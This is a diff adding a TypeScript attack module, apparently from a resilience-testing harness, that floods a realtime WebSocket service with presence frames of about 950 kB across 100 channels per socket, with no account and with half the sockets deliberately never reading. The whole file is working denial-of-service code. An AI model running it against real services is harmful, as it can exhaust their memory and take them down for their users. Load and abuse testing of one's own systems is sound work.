@@ -1,0 +1,45 @@
+import { sendFrame, type HostileClient } from "../hostile-client.ts";
+import type { AttackKind } from "../kind.ts";
+import type { WebSocket } from "ws";
+
+const perClient = 6;
+const channels = 100;
+const mostSockets = 4;
+/** As much as a frame of a hosted project takes, less what surrounds it. */
+const payload = { event: "track", type: "presence", payload: { fat: "x".repeat(950_000) } };
+
+const topicOf = (client: HostileClient, channel: number) =>
+  `realtime:flood-${client.index}-${channel}`;
+
+function join(client: HostileClient, socket: WebSocket): void {
+  for (let channel = 0; channel < channels; channel += 1) {
+    const config = { presence: { key: `${channel}` }, broadcast: { self: true } };
+    sendFrame(socket, topicOf(client, channel), "phx_join", { config }, `${channel}`);
+  }
+}
+
+/** Presence of nearly a megabyte on a hundred channels a socket; every other socket never reads what it is sent. */
+export const presenceFlood: AttackKind = {
+  name: "presence flood",
+  tries:
+    "presence of 950 kB on 100 channels a socket, without an account; half of the sockets never read",
+  attemptsPerSecond: 10 * perClient,
+  run: async (client) => {
+    const sockets: WebSocket[] = [];
+    await client.pace(perClient, async (turn) => {
+      const at = turn % mostSockets;
+      let socket = sockets[at];
+      if (socket === undefined || socket.readyState !== socket.OPEN) {
+        socket = await client.openSocket();
+        if (socket === undefined) return;
+        sockets[at] = socket;
+        join(client, socket);
+        if (at % 2 === 1) socket.pause();
+      }
+      // What our own machine could not send yet is no attack on the other one.
+      if (socket.bufferedAmount > 8_000_000) return;
+      const channel = Math.floor(turn / mostSockets) % channels;
+      if (sendFrame(socket, topicOf(client, channel), "presence", payload)) client.count("sent");
+    });
+  },
+};
